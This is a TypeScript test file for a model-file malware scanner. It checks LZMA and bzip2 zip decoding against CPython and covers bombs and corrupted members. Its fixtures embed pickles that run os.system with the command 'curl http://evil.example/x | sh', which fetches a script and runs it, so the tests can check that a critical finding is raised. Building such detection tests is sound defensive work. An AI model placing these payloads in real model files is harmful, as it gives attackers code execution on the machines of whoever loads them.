// Zip members compressed with LZMA (method 14) and bzip2 (method 12), with CPython's zipfile as
// the writer and the oracle (numpy.load and Keras read archives through it): byte-exact round
// trips, malicious pickles inside, known-size and marker variants, broken members and bombs.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import * as zlib from 'node:zlib';
import { decompressSliced } from '../../../server/src/core/formats/compression/bounded';
import { decodeZipLzma, parseZipLzmaHeader, zipLzmaSlices, type ZipLzmaEnd } from '../../../server/src/core/formats/compression/lzma/zipLzma';
import { readZip, type ZipArchive, type ZipMember } from '../../../server/src/core/formats/archive/zip';
import { BufferByteSource } from '../../../server/src/core/io/byteSource';
import { DEFAULT_LIMITS } from '../../../server/src/core/limits';
import { encodeLiterals } from '../../fixtures/lzma/literalEncoder';
import { zipOracle, type ZipArchiveSpec, type ZipRead } from '../../fixtures/lzma/zipOracle';
import { osSystemPickle, plainPickle } from '../../fixtures/zip/pickles';
import { buildZip, type EntrySpec } from '../../fixtures/zip/writer';
import { byRule, one, scan } from './helpers';

const MB = 1024 * 1024;
const CMD = 'curl http://evil.example/x | sh';
const evil = Buffer.from(osSystemPickle(CMD));
const b64 = (b: Uint8Array | string) => Buffer.from(b).toString('base64');
const bytes = (b: Uint8Array | string) => ({ kind: 'bytes' as const, b64: b64(b) });
const torch = (pkl: Uint8Array, compression?: 'bzip2'): ZipArchiveSpec => ({
  ...(compression ? { compression } : {}),
  members: [
    { name: 'archive/data.pkl', data: bytes(pkl) },
    { name: 'archive/byteorder', data: bytes('little') },
    { name: 'archive/data/0', data: { kind: 'random', size: 4096, seed: 5 } },
    { name: 'archive/version', data: bytes('3\n') },
  ],
});

const ARCHIVES = {
  npz: {
    members: [
      { name: 'weight.npy', data: { kind: 'npy', shape: [64, 32], dtype: 'float32', seed: 1 } },
      { name: 'bias.npy', data: { kind: 'npy', shape: [32], dtype: 'float64', seed: 2 } },
      { name: 'ids.npy', data: { kind: 'npy', shape: [5000], dtype: 'int64', seed: 3 } },
      { name: 'empty.npy', data: { kind: 'npy', shape: [0], dtype: 'float32' } },
    ],
  },
  data: {
    members: [
      { name: 'text.txt', data: { kind: 'text', size: 200_000, seed: 1 } },
      { name: 'random.bin', data: { kind: 'random', size: 100_000, seed: 2 } },
      { name: 'zeros.bin', data: { kind: 'zeros', size: 3 * MB } },
      { name: 'repeats.bin', data: { kind: 'far-repeats', size: MB, seed: 4, block: 20_000 } },
      { name: 'empty.bin', data: bytes('') },
      { name: 'one.bin', data: bytes('B') },
      { name: 'state.pkl', data: { kind: 'pickle', n: 300 } },
      { name: 'stored.txt', data: { kind: 'text', size: 5000, seed: 6 }, compression: 'stored' },
    ],
  },
  torchEvil: torch(evil),
  torchPlain: torch(plainPickle()),
  npzEvil: {
    members: [
      { name: 'weight.npy', data: { kind: 'npy', shape: [8], dtype: 'float32', seed: 7 } },
      { name: 'meta.npy', data: { kind: 'npy-object-call', cmd: CMD } },
    ],
  },
  torchBzip2: torch(evil, 'bzip2'),
  bomb: { members: [{ name: 'archive/data.pkl', data: { kind: 'zeros', size: 16 * MB } }] },
} satisfies Record<string, ZipArchiveSpec>;

const names = Object.keys(ARCHIVES) as (keyof typeof ARCHIVES)[];
const writtenList = zipOracle(Object.values(ARCHIVES)).written;
const written = Object.fromEntries(names.map((n, i) => [n, writtenList[i]!])) as Record<keyof typeof ARCHIVES, (typeof writtenList)[number]>;

function archive(zip: Uint8Array): { src: BufferByteSource; zip: ZipArchive } {
  const src = new BufferByteSource(zip);
  return { src, zip: readZip(src, DEFAULT_LIMITS)! };
}

function member(zip: ZipArchive, name: string): ZipMember {
  return zip.members.find((m) => m.entry.name === name)!;
}

function compressed(src: BufferByteSource, m: ZipMember): Buffer {
  return Buffer.from(src.read(m.data!.start, m.data!.length));
}

const endOf = (m: ZipMember): ZipLzmaEnd => ({ declaredSize: m.entry.uncompressedSize, marker: (m.entry.flags & 2) !== 0 });

// Members we build by hand (CPython always writes the marker flag and a marker).
const evilTorch = archive(written.torchEvil.zip);
const evilMember = member(evilTorch.zip, 'archive/data.pkl');
const evilStream = compressed(evilTorch.src, evilMember);
const data = archive(written.data.zip);
const textMember = member(data.zip, 'text.txt');
const textStream = compressed(data.src, textMember);
const textRaw = written.data.members.get('text.txt')!;
// Broken-member fixtures use the pickle: members that sniff as no analysable format are only
// decoded for their first 4 KiB (as deflated ones), so damage further in is never reached.
const stateRaw = written.data.members.get('state.pkl')!;
const stateStream = compressed(data.src, member(data.zip, 'state.pkl'));

/** A zip LZMA member body from an LZMA-alone stream of our literal writer (known size, no marker). */
function literalBody(raw: Uint8Array, lc = 3, lp = 0, pb = 2): Buffer {
  const alone = encodeLiterals(raw, { lc, lp, pb, dictSize: 1 << 16 });
  return Buffer.concat([Buffer.from([9, 4, 5, 0]), alone.subarray(0, 5), alone.subarray(13)]);
}

function lzmaEntry(name: string, body: Uint8Array, raw: Uint8Array, marker: boolean, extra: Partial<EntrySpec> = {}): EntrySpec {
  return { name, data: body, method: 14, flags: marker ? 2 : 0, crc: zlib.crc32(raw), declaredSize: raw.length, ...extra };
}

const torchWith = (pkl: EntrySpec): Uint8Array => buildZip([pkl, { name: 'archive/version', data: '3\n' }]).bytes;

const HAND = {
  knownSize: torchWith(lzmaEntry('archive/data.pkl', literalBody(evil), evil, false)),
  knownSizeOddProps: torchWith(lzmaEntry('archive/data.pkl', literalBody(evil, 0, 4, 4), evil, false)),
  knownSizeWithMarker: buildZip([lzmaEntry('text.txt', textStream, textRaw, false)]).bytes,
  flagWithoutMarker: torchWith(lzmaEntry('archive/data.pkl', literalBody(evil), evil, true)),
  emptyNoMarker: buildZip([lzmaEntry('empty.bin', literalBody(new Uint8Array(0)), new Uint8Array(0), false)]).bytes,
  truncated: buildZip([lzmaEntry('state.pkl', stateStream.subarray(0, stateStream.length >> 1), stateRaw, true)]).bytes,
  truncatedHeader: buildZip([lzmaEntry('text.txt', textStream.subarray(0, 7), textRaw, true)]).bytes,
  corrupt: buildZip([lzmaEntry('state.pkl', flip(stateStream), stateRaw, true)]).bytes,
  propsSize4: buildZip([lzmaEntry('text.txt', patch(textStream, 2, 4), textRaw, true)]).bytes,
  badPropsByte: buildZip([lzmaEntry('text.txt', patch(textStream, 4, 0xe1), textRaw, true)]).bytes,
  bzip2Truncated: torchWith({ ...lzmaEntry('archive/data.pkl', bzip2Half(), evil, false), method: 12 }),
  understated: torchWith(lzmaEntry('archive/data.pkl', evilStream, evil, true, { declaredSize: 5, crc: zlib.crc32(evil.subarray(0, 5)) })),
};

function bzip2Half(): Buffer {
  const { src, zip } = archive(written.torchBzip2.zip);
  const stream = compressed(src, member(zip, 'archive/data.pkl'));
  return stream.subarray(0, stream.length >> 1);
}

function flip(b: Buffer): Buffer {
  const out = Buffer.from(b);
  for (let i = out.length >> 2; i < out.length >> 1; i += 97) out[i]! ^= 0x5a;
  return out;
}

function patch(b: Buffer, at: number, value: number): Buffer {
  const out = Buffer.from(b);
  out[at] = value;
  return out;
}

const handNames = Object.keys(HAND) as (keyof typeof HAND)[];
const oracleReads = zipOracle([], [...Object.values(written).map((w) => w.zip), ...Object.values(HAND)]).read;
const cpythonOfWritten = (i: number) => oracleReads[i]!;
const cpythonOfHand = (n: keyof typeof HAND): Map<string, ZipRead> => oracleReads[names.length + handNames.indexOf(n)]!;

function cpythonData(r: ZipRead | undefined, what: string): Buffer {
  assert.ok(r?.ok, `CPython failed on ${what}: ${r && !r.ok ? r.error : 'missing'}`);
  return r.data;
}

/** The os.system finding inside the given member. */
function assertOsSystem(findings: { ruleId: string; severity: string; evidence?: string; location: { kind: string; members?: string[] } }[], memberName: string): void {
  const f = findings.find((x) => x.ruleId === 'MSL601' && /system/.test(x.evidence ?? ''));
  assert.ok(f, JSON.stringify(findings.map((x) => [x.ruleId, x.evidence])));
  assert.equal(f.severity, 'critical');
  assert.ok(f.evidence!.includes(CMD));
  assert.deepEqual(f.location.members, [memberName]);
}

describe('zip LZMA members against CPython zipfile', () => {
  it('CPython writes method 14 with the marker flag and a 5-byte properties header', () => {
    for (const m of data.zip.members) {
      const name = m.entry.name;
      assert.equal(m.entry.method, name === 'stored.txt' ? 0 : 14, name);
      if (name === 'stored.txt') continue;
      assert.equal(m.entry.flags & 2, 2, name);
      const h = parseZipLzmaHeader(compressed(data.src, m).subarray(0, 9));
      assert.ok(h.ok, name);
      assert.deepEqual([h.header.lc, h.header.lp, h.header.pb, h.header.dictSize], [3, 0, 2, 8 * MB], name);
    }
  });

  it('every member of CPython-written archives decodes byte-exact to what CPython reads', () => {
    let checked = 0;
    for (const [i, n] of names.entries()) {
      if (n === 'bomb') continue;
      const { src, zip } = archive(written[n].zip);
      for (const m of zip.members) {
        const expected = cpythonData(cpythonOfWritten(i).get(m.entry.name), `${n}/${m.entry.name}`);
        assert.ok(expected.equals(written[n].members.get(m.entry.name)!), `${n}/${m.entry.name}: CPython reads what it wrote`);
        if (m.entry.method !== 14) continue;
        const r = decodeZipLzma(compressed(src, m), endOf(m), 1 << 30);
        assert.equal(r.status, 'end', `${n}/${m.entry.name}: ${r.detail}`);
        assert.ok(Buffer.from(r.data).equals(expected), `${n}/${m.entry.name}: ${r.data.length} vs ${expected.length} bytes`);
        checked++;
      }
    }
    assert.equal(checked, 4 + 7 + 4 + 4 + 2);
  });

  it('numpy.load opens the LZMA .npz, and the scanner analyses it with no findings', async () => {
    assert.deepEqual(written.npz.npz, { weight: [[64, 32], 'float32'], bias: [[32], 'float64'], ids: [[5000], 'int64'], empty: [[0], 'float32'] });
    const r = await scan(written.npz.zip, 'weights.npz');
    assert.equal(r.format, 'numpy-npz');
    assert.deepEqual(r.findings, []);
    assert.deepEqual(r.summary.members!.map((m) => m.method), [14, 14, 14, 14]);
  });

  it('a zip of LZMA data members: nothing unanalysed, malformed or anomalous (zeros declare a bomb ratio)', async () => {
    const r = await scan(written.data.zip, 'bundle.zip');
    assert.deepEqual(r.findings.map((f) => [f.ruleId, f.evidence]), [['MSL714', `zeros.bin: ${member(data.zip, 'zeros.bin').entry.compressedSize} -> ${3 * MB} bytes`]]);
  });
});

describe('malicious pickles in LZMA and bzip2 zip members', () => {
  it('PyTorch-style archive/data.pkl with os.system, ZIP_LZMA: critical MSL601, no MSL715', async () => {
    const r = await scan(written.torchEvil.zip, 'model.pt');
    assert.equal(r.format, 'pytorch-zip');
    assertOsSystem(r.findings, 'archive/data.pkl');
    assert.deepEqual(byRule(r, 'MSL715'), []);
  });

  it('the same layout with a plain pickle: no findings (control)', async () => {
    const r = await scan(written.torchPlain.zip, 'model.pt');
    assert.deepEqual(r.findings, []);
  });

  it('an .npz whose object array unpickles into os.system: critical, found through LZMA', async () => {
    assert.deepEqual(written.npzEvil.npz, { weight: [[8], 'float32'] }, 'numpy opens it (the object array needs allow_pickle)');
    const r = await scan(written.npzEvil.zip, 'arrays.npz');
    const f = r.findings.find((x) => x.ruleId === 'MSL601');
    assert.ok(f, JSON.stringify(r.findings.map((x) => [x.ruleId, x.message])));
    assert.equal(f.severity, 'critical');
    assert.deepEqual(f.location.kind === 'bytes' && f.location.members, ['meta.npy']);
    assert.deepEqual(byRule(r, 'MSL715'), []);
  });

  it('ZIP_BZIP2 (method 12) is decoded too: critical MSL601, no MSL715', async () => {
    const { zip } = archive(written.torchBzip2.zip);
    assert.deepEqual(zip.members.map((m) => m.entry.method), [12, 12, 12, 12]);
    const r = await scan(written.torchBzip2.zip, 'model.pt');
    assertOsSystem(r.findings, 'archive/data.pkl');
    assert.deepEqual(byRule(r, 'MSL715'), []);
    assert.equal(cpythonOfHand('bzip2Truncated').get('archive/data.pkl')!.ok, false);
    const cut = await scan(HAND.bzip2Truncated, 'model.pt');
    assert.match(one(cut, 'MSL710').message, /^The bzip2 data of member archive\/data\.pkl is corrupt after 0 decoded bytes \(.+\); the decoded part was analysed\.$/);
    assert.deepEqual(byRule(cut, 'MSL715'), []);
  });
});

describe('end of stream: marker flag and declared size', () => {
  it('known size without marker (flag bit 1 clear, our literal writer): CPython and we read it', async () => {
    for (const n of ['knownSize', 'knownSizeOddProps'] as const) {
      assert.ok(cpythonData(cpythonOfHand(n).get('archive/data.pkl'), n).equals(evil), n);
      const r = await scan(HAND[n], 'model.pt');
      assertOsSystem(r.findings, 'archive/data.pkl');
      assert.deepEqual(r.findings.filter((f) => /^MSL7/.test(f.ruleId)), [], n);
    }
    const empty = archive(HAND.emptyNoMarker);
    const e = decodeZipLzma(compressed(empty.src, empty.zip.members[0]!), endOf(empty.zip.members[0]!), MB);
    assert.deepEqual([e.status, e.data.length], ['end', 0]);
  });

  it('known size with a marker at the size (flag bit 1 clear): ends cleanly', async () => {
    assert.ok(cpythonData(cpythonOfHand('knownSizeWithMarker').get('text.txt'), 'knownSizeWithMarker').equals(textRaw));
    const { src, zip } = archive(HAND.knownSizeWithMarker);
    const r = decodeZipLzma(compressed(src, zip.members[0]!), endOf(zip.members[0]!), MB);
    assert.deepEqual([r.status, Buffer.from(r.data).equals(textRaw)], ['end', true]);
    const s = await scan(HAND.knownSizeWithMarker, 'bundle.zip');
    assert.deepEqual(s.findings, []);
  });

  it('marker flag set but the stream ends at the declared size without one: read to the size, like CPython', async () => {
    assert.ok(cpythonData(cpythonOfHand('flagWithoutMarker').get('archive/data.pkl'), 'flagWithoutMarker').equals(evil));
    const { src, zip } = archive(HAND.flagWithoutMarker);
    const m = zip.members[0]!;
    const r = decodeZipLzma(compressed(src, m), endOf(m), MB);
    assert.deepEqual([r.status, Buffer.from(r.data).equals(evil)], ['end', true]);
    const s = await scan(HAND.flagWithoutMarker, 'model.pt');
    assertOsSystem(s.findings, 'archive/data.pkl');
    assert.deepEqual(s.findings.filter((f) => /^MSL7/.test(f.ruleId)), []);
  });

  it('an understated size with the marker flag: the whole stream is analysed and the mismatch reported', async () => {
    assert.ok(cpythonData(cpythonOfHand('understated').get('archive/data.pkl'), 'understated').equals(evil.subarray(0, 5)), 'CPython stops at the declared size');
    const r = await scan(HAND.understated, 'model.pt');
    assertOsSystem(r.findings, 'archive/data.pkl');
    assert.deepEqual(byRule(r, 'MSL716').map((f) => f.evidence!.replace(/0x[0-9a-f]{8}/g, 'CRC')), [
      `archive/data.pkl: declared 5, decoded ${evil.length} bytes`,
      'crc32 actual CRC, declared CRC',
    ]);
  });
});

describe('broken LZMA members and bombs', () => {
  it('a truncated member: CPython fails, we analyse the decoded part and say why', async () => {
    const cp = cpythonOfHand('truncated').get('state.pkl')!;
    assert.equal(cp.ok, false);
    const r = await scan(HAND.truncated, 'bundle.zip');
    const f = one(r, 'MSL710');
    assert.match(f.message, /^The LZMA data of member state\.pkl is corrupt after (\d+) decoded bytes \(the compressed data ends before the stream does\); the decoded part was analysed\.$/);
    const decoded = Number(/after (\d+) decoded/.exec(f.message)![1]);
    assert.ok(decoded > stateRaw.length / 4 && decoded < stateRaw.length, `${decoded} of ${stateRaw.length}`);
    const { src, zip } = archive(HAND.truncated);
    const d = decodeZipLzma(compressed(src, zip.members[0]!), endOf(zip.members[0]!), MB);
    assert.equal(d.status, 'truncated');
    assert.equal(d.data.length, decoded);
    assert.ok(Buffer.from(d.data).equals(stateRaw.subarray(0, d.data.length)), 'the decoded part is a prefix of the content');
    assert.ok(cp.data.length > 0 && Buffer.from(d.data).subarray(0, cp.data.length).equals(cp.data), 'CPython streams the same prefix');
  });

  it('headers no reader accepts: cut short, 4 properties bytes, properties byte 0xe1', async () => {
    const cases = [
      ['truncatedHeader', /the member ends inside the LZMA properties/],
      ['propsSize4', /the LZMA header gives 4 properties bytes where LZMA1 has 5/],
      ['badPropsByte', /properties byte 0xe1 is not a valid lc\/lp\/pb combination/],
    ] as const;
    for (const [n, detail] of cases) {
      assert.equal(cpythonOfHand(n).get('text.txt')!.ok, false, `CPython rejects ${n}`);
      const r = await scan(HAND[n], 'bundle.zip');
      const f = one(r, 'MSL710');
      assert.match(f.message, /^The LZMA data of member text\.txt is corrupt after 0 decoded bytes/, n);
      assert.match(f.message, detail, n);
      assert.deepEqual(byRule(r, 'MSL715'), [], n);
    }
  });

  it('corrupted data: CPython fails, and so do we, with a finding and no throw', async () => {
    assert.equal(cpythonOfHand('corrupt').get('state.pkl')!.ok, false);
    const r = await scan(HAND.corrupt, 'bundle.zip');
    const f = one(r, 'MSL710');
    const m = /^The LZMA data of member state\.pkl is corrupt after (\d+) decoded bytes \((.+)\); the decoded part was analysed\.$/.exec(f.message);
    assert.ok(m, f.message);
    assert.ok(Number(m[1]) < stateRaw.length);
    const { src, zip } = archive(HAND.corrupt);
    const d = decodeZipLzma(compressed(src, zip.members[0]!), endOf(zip.members[0]!), MB);
    assert.deepEqual([d.status, d.detail, d.data.length], ['corrupt', m[2], Number(m[1])]);
    // Output before the first damaged byte (a quarter into the stream) is the real content.
    assert.ok(Buffer.from(d.data).subarray(0, 20_000).equals(stateRaw.subarray(0, 20_000)));
  });

  it('a bomb member stops at the ratio limit, and at the byte budget', async () => {
    const r = await scan(written.bomb.zip, 'model.pt');
    const inflated = byRule(r, 'MSL714').find((f) => /inflated/.test(f.message));
    assert.ok(inflated, JSON.stringify(r.findings.map((f) => [f.ruleId, f.message])));
    const reached = Number(/inflated to (\d+) bytes/.exec(inflated.message)![1]);
    assert.ok(reached > MB && reached < 4 * MB, String(reached));
    assert.ok(byRule(r, 'MSL001').some((f) => f.evidence === 'maxCompressionRatio=1000'));
    const budget = await scan(written.bomb.zip, 'model.pt', { maxDecompressedBytes: 512 * 1024, maxCompressionRatio: 1e9 });
    assert.ok(byRule(budget, 'MSL001').some((f) => f.evidence === 'maxDecompressedBytes=524288'), JSON.stringify(budget.findings.map((f) => f.evidence)));
    assert.deepEqual(byRule(budget, 'MSL715'), []);
  });

  it('the wall-time budget stops the decoder between slices', async () => {
    const m = member(data.zip, 'zeros.bin');
    let polls = 0;
    const end = endOf(m);
    const r = await decompressSliced((input, _n, sink, limit) => zipLzmaSlices(input, end, sink, limit), data.src, m.data!.start, m.data!.length, {
      cap: Number.MAX_SAFE_INTEGER,
      maxRatio: 1e9,
      take: () => true,
      timeUp: () => ++polls > 2,
    });
    assert.equal(r.stop, 'time');
    assert.ok(r.data.length >= MB && r.data.length < 3 * MB, String(r.data.length));
    assert.ok(Buffer.from(r.data).equals(Buffer.alloc(r.data.length)));
  });
});
